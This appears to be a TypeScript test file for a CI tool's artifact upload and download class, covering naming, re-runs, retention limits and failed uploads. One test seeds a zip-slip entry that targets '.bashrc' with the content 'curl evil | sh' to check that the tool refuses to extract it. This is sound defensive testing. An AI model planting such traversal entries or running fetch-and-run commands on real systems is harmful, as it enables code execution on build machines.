import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MemoryLogger } from '@gatehouse/findings';
import type { FakeArtifactService } from '@gatehouse/testing-harness';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startArtifactEnvironment } from '../test-support/artifact-environment';
import { artifactName } from './artifact-name';
import { RunArtifacts } from './run-artifacts';

let service: FakeArtifactService;
let restore: () => Promise<void>;
let logger: MemoryLogger;

beforeEach(async () => {
  ({ service, restore } = await startArtifactEnvironment());
  logger = new MemoryLogger();
});
afterEach(async () => {
  await restore();
});

function artifacts() {
  return new RunArtifacts({ logger, tempDirectory: mkdtempSync(join(tmpdir(), 'gatehouse-run-artifacts-')) });
}

describe('RunArtifacts', () => {
  it('uploads files made in memory under a per-job name, lists them, and downloads them back', async () => {
    const name = artifactName({ kind: 'findings', action: 'sast', job: 'scan', matrix: { os: 'linux' } });
    const uploaded = await artifacts().uploadFiles(name, [
      { path: 'findings.json', content: '{"findings":[]}' },
      { path: 'reports/semgrep.json', content: Buffer.from('{"results":[]}') },
    ]);
    expect(uploaded).toMatchObject({ status: 'uploaded', name, id: service.artifacts[0]!.id });

    expect(await artifacts().list({ prefix: 'gatehouse-findings-' })).toMatchObject([{ name, id: service.artifacts[0]!.id }]);
    const files = await artifacts().download(name);
    expect(files.get('findings.json')!.toString()).toBe('{"findings":[]}');
    expect(files.get('reports/semgrep.json')!.toString()).toBe('{"results":[]}');
  });

  it('downloads an artifact another job of the run uploaded', async () => {
    service.seedArtifact('gatehouse-findings-deps-audit-node', { 'findings.json': '{"from":"another job"}' });
    expect((await artifacts().download('gatehouse-findings-deps-audit-node')).get('findings.json')!.toString()).toBe('{"from":"another job"}');
  });

  it('refuses to download an artifact whose zip would escape the download folder', async () => {
    service.seedArtifact('gatehouse-findings-evil-x', { '../../../home/runner/.bashrc': 'curl evil | sh' });
    await expect(artifacts().download('gatehouse-findings-evil-x')).rejects.toThrow(/not a readable zip|unsafe entry name/);
  });

  it('replaces its own artifact when the job is re-run', async () => {
    service.seedArtifact('gatehouse-sarif-sast-scan', { 'results.sarif': 'old' }, service.jobBackendId);
    const outcome = await artifacts().uploadFiles('gatehouse-sarif-sast-scan', [{ path: 'results.sarif', content: 'new' }]);
    expect(outcome.status).toBe('uploaded');
    expect(service.artifacts.filter((a) => a.name === 'gatehouse-sarif-sast-scan')).toHaveLength(1);
    expect((await artifacts().download('gatehouse-sarif-sast-scan')).get('results.sarif')!.toString()).toBe('new');
    expect(logger.text()).toContain('already exists in this run (a re-run of the job): replacing it');
  });

  it('uploads files already on disk, named relative to their root', async () => {
    const root = mkdtempSync(join(tmpdir(), 'gatehouse-reports-'));
    writeFileSync(join(root, 'gitleaks.json'), '[]');
    const outcome = await artifacts().uploadFromDisk('gatehouse-reports-secrets-scan-scan', [join(root, 'gitleaks.json')], root, { retentionDays: 5 });
    expect(outcome.status).toBe('uploaded');
    expect([...(await artifacts().download('gatehouse-reports-secrets-scan-scan')).keys()]).toEqual(['gitleaks.json']);
  });

  it('reports an upload it could not make as an outcome, not a crash', async () => {
    delete process.env.ACTIONS_RUNTIME_TOKEN;
    const outcome = await artifacts().uploadFiles('gatehouse-findings-sast-scan', [{ path: 'findings.json', content: '{}' }]);
    expect(outcome).toMatchObject({ status: 'failed', name: 'gatehouse-findings-sast-scan' });
    expect(logger.text()).toContain('could not upload artifact gatehouse-findings-sast-scan');
  });

  it('refuses file paths that leave the artifact and retention outside 1–90 days', async () => {
    await expect(artifacts().uploadFiles('gatehouse-x-y', [{ path: '../x', content: '' }])).rejects.toThrow(/must be relative/);
    await expect(artifacts().uploadFiles('gatehouse-x-y', [{ path: 'a', content: '' }], { retentionDays: 400 })).rejects.toThrow(/from 1 to 90/);
    expect(service.artifacts).toEqual([]);
  });
});
